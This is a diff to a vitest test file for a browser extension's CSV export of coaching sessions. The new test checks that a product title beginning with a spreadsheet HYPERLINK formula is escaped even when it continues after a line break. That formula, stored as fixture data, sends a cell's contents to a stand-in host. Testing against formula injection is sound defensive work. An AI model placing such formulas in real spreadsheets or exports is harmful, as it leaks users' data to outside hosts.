@@ -1,7 +1,8 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS, csvFileName, sessionCsv } from '../../../extension/coaching/csv';
-import { addParticipant, type Session } from '../../../extension/coaching/session-ops';
+import { addEntries, addParticipant, entryFor, type Session } from '../../../extension/coaching/session-ops';
+import { Listing } from '../../../shared/listing/schema';
 import { T0, sampleSession } from '../../fixtures/coaching/sessions';
 
 const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
@@ -33,6 +34,16 @@ describe('the session CSV', () => {
     expect(last.toko).toBe('\'+62 Toko');
     expect(last.judul_produk).toBe('');
     expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
+  it('escapes a formula title that goes on after a line break (spreadsheet imports keep inner newlines)', () => {
+    const title = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")\nKeripik Pisang Lampung 250 gr';
+    const entry = entryFor({ listing: Listing.parse({ marketplace: 'shopee', title }), source: 'sheet', origin: 'toko.xlsx, baris 2' }, T0, 'l-formula');
+    const added = addEntries(sampleSession(), 'p-budi', [entry], T0);
+    if (!added.ok) throw new Error('fixture');
+    const row = parse(sessionCsv(added.session)).data.find((r) => r.judul_produk.includes('HYPERLINK'))!;
+    expect(row.judul_produk).toBe(`'${title}`);
+    expect(row.perubahan).toBe('0');
   });
 
   it('names the file after the session and its day', () => {
